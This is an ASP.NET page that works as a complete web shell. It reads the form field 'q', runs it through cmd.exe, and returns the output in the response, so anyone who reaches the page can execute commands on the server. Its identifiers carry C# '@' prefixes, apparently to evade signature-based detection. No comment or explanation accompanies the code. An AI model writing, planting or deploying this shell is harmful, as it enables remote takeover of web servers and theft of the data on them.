<%@ Page Language="C#" %>
<%
var @in = @Request.@Form["q"];
var @p = new @System.@Diagnostics.@ProcessStartInfo(@"c:\windows\system32\cmd.exe", "/c " + @in);
@p.@UseShellExecute = false;
@p.@RedirectStandardOutput = true;
@Response.@Write(@System.@Diagnostics.@Process.@Start(@p).@StandardOutput.@ReadToEnd());
%>
